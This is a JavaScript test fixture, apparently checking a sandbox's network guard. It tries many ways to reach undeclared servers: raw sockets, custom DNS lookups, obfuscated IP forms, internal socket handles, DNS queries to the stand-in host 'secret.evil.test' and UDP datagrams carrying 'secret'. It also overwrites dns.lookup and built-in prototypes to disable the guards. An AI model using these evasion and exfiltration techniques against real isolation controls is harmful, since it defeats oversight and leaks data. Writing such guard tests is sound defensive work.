// Attempts of an action to contact a server that its lane's actions do not declare: each returns what came of every way, as text.
import dgram from "node:dgram";
import dns from "node:dns";
import http from "node:http";
import http2 from "node:http2";
import https from "node:https";
import net from "node:net";
import tls from "node:tls";
import { promisify } from "node:util";
import { answering, each, reading } from "./outcomes.mjs";

const text = (url, options) => fetch(url, options).then((response) => response.text());
/** A lookup of the action's own, which gives any name this address. */
const lookupTo = (address) => (_name, options, done) =>
  options.all ? done(null, [{ address, family: net.isIP(address) }]) : done(null, address, net.isIP(address));

/** Calls the server at an address and port that no action declares, in every way. */
export function connections(address, port, hostAddress) {
  const host = net.isIP(address) === 6 ? `[${address}]` : address;
  const url = `http://${host}:${port}/`;
  return each({
    fetch: () => text(url),
    request: () => text(new Request(url)),
    get: () => answering(http.get(url)),
    options: () => answering(http.request({ host: address, port })),
    agent: () => answering(http.request({ host: address, port, agent: new http.Agent({ keepAlive: true }) })),
    https: () => answering(https.request(`https://${host}:${port}/`)),
    http2: () =>
      new Promise((resolve, reject) => {
        http2.connect(url).on("error", reject).on("connect", resolve);
      }),
    net: () => reading(net.connect(port, address)),
    noFamilies: () => reading(net.connect({ host: address, port, autoSelectFamily: false })),
    socket: () => reading(new net.Socket().connect({ port, host: address })),
    tls: () => reading(tls.connect({ host: address, port, rejectUnauthorized: false })),
    ownLookup: () => reading(net.connect({ host: "allowed.test", port, lookup: lookupTo(address) })),
    httpLookup: () => answering(http.request({ host: "allowed.test", port, lookup: lookupTo(address) })),
    otherPort: () => reading(net.connect(port, hostAddress)),
    handle: () => {
      const socket = new net.Socket().on("error", () => {});
      socket.connect({ host: "localhost", port: 1, lookup() {} });
      const code = socket._handle[net.isIP(address) === 6 ? "connect6" : "connect"]({ oncomplete() {} }, address, port);
      return code < 0 ? Promise.reject(new Error(`error ${code}`)) : reading(socket);
    },
    webSocket: () =>
      typeof WebSocket === "undefined"
        ? Promise.reject(new Error("no WebSocket here"))
        : new Promise((resolve, reject) => {
            const socket = new WebSocket(url.replace("http", "ws"));
            socket.onopen = resolve;
            socket.onerror = ({ error, message }) => reject(error ?? new Error(message || "refused"));
          }),
    fetchAgent: async () => {
      await fetch("http://127.0.0.1:1/").catch(() => {}); // makes the global agent
      const Agent = globalThis[Symbol.for("undici.globalDispatcher.1")]?.constructor;
      return text("http://allowed.test/", {
        dispatcher: new Agent({ connect: { lookup: lookupTo(address), port } }),
      });
    },
  });
}

/** Calls a server by names that no action declares, and asks for their addresses in every way. */
export function names(port) {
  const name = "localhost";
  const resolver = new dns.Resolver({ timeout: 200, tries: 1 });
  const later = new dns.promises.Resolver({ timeout: 200, tries: 1 });
  const asked = (method, ...args) =>
    new Promise((resolve, reject) => {
      resolver[method](...args, (error, answer) => (error ? reject(error) : resolve(answer)));
    });
  return each({
    fetch: () => text(`http://${name}:${port}/`),
    upperCase: () => text(`http://LOCALHOST:${port}/`),
    dotted: () => reading(net.connect(port, "localhost.")),
    decimal: () => reading(net.connect(port, "2130706433")),
    hexadecimal: () => reading(net.connect(port, "0x7f.1")),
    short: () => reading(net.connect(port, "127.1")),
    lookup: () => promisify(dns.lookup)(name),
    lookupAll: () => promisify(dns.lookup)(name, { all: true }),
    lookupPromise: () => dns.promises.lookup(name),
    lookupByPrototype: () => promisify(Reflect.get(dns, "lookup"))("secret.evil.test"),
    resolve4: () => asked("resolve4", "secret.evil.test"),
    resolveTxt: () => asked("resolveTxt", "secret.evil.test"),
    resolveAny: () => later.resolveAny("secret.evil.test"),
    resolveMx: () => dns.promises.resolveMx("secret.evil.test"),
    reverse: () => asked("reverse", "192.0.2.1"),
    servers: async () => resolver.setServers(["127.0.0.1:5353"]),
    defaultServers: async () => dns.setServers(["127.0.0.1:5353"]),
    promisedServers: async () => later.setServers(["127.0.0.1:5353"]),
    lookupService: () => promisify(dns.lookupService)("192.0.2.1", 80),
    servicePromise: () => dns.promises.lookupService("192.0.2.1", 80),
    borrowed: () =>
      new Promise((resolve, reject) => {
        const code = resolver._handle.queryTxt({ oncomplete: resolve }, "secret.evil.test");
        if (code !== 0) reject(new Error(`error ${code}`));
      }),
  });
}

/** Sends datagrams to a port that no action declares. */
export function datagrams(port) {
  const sent = (work) =>
    new Promise((resolve, reject) => {
      const socket = dgram.createSocket("udp4").unref().on("error", reject);
      work(socket, (error) => (error ? reject(error) : resolve("sent")));
    });
  return each({
    send: () => sent((socket, done) => socket.send("secret", port, "127.0.0.1", done)),
    connect: () => sent((socket, done) => socket.connect(port, "127.0.0.1", done)),
    name: () => sent((socket, done) => socket.send("secret", port, "localhost", done)),
    ownLookup: () =>
      new Promise((resolve, reject) => {
        const socket = dgram
          .createSocket({ type: "udp4", lookup: lookupTo("127.0.0.1") })
          .unref()
          .on("error", reject);
        socket.send("secret", port, "allowed.test", (error) => (error ? reject(error) : resolve("sent")));
      }),
    handle: async () => {
      const socket = dgram.createSocket("udp4").unref();
      const handle = Object.getOwnPropertySymbols(socket).flatMap((symbol) => socket[symbol]?.handle ?? [])[0];
      const code = handle.send({ oncomplete() {} }, [Buffer.from("secret")], 1, port, "127.0.0.1", false);
      if (code < 0) throw new Error(`error ${code}`);
      return "sent";
    },
  });
}

/** Tries to take the guards away, then calls. */
export async function tampering(port) {
  const outcomes = {};
  const attempts = {
    lookup: () => {
      dns.lookup = lookupTo("127.0.0.1");
    },
    define: () => Object.defineProperty(dns, "lookup", { value: lookupTo("127.0.0.1") }),
    map: () => {
      Map.prototype.get = () => new Set(["any"]);
    },
    has: () => {
      Set.prototype.has = () => true;
    },
    some: () => {
      Array.prototype.some = () => true;
    },
    test: () => {
      String.prototype.endsWith = () => true;
    },
    handle: () => {
      const socket = new net.Socket().on("error", () => {});
      socket.connect({ host: "localhost", port: 1, lookup() {} });
      Object.getPrototypeOf(socket._handle).connect = () => 0;
    },
    isIP: () => {
      net.isIP = () => 4;
    },
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      attempt();
    } catch {
      // as expected of some
    }
    outcomes[name] = JSON.parse(await each({ fetch: () => text(`http://127.0.0.1:${port}/`) })).fetch;
  }
  return JSON.stringify(outcomes);
}

/** What callers get to read. */
export async function said(url) {
  return text(url);
}

/** Follows a redirect. */
export async function redirected(url) {
  return text(url);
}

export async function allowed(url) {
  return text(url);
}
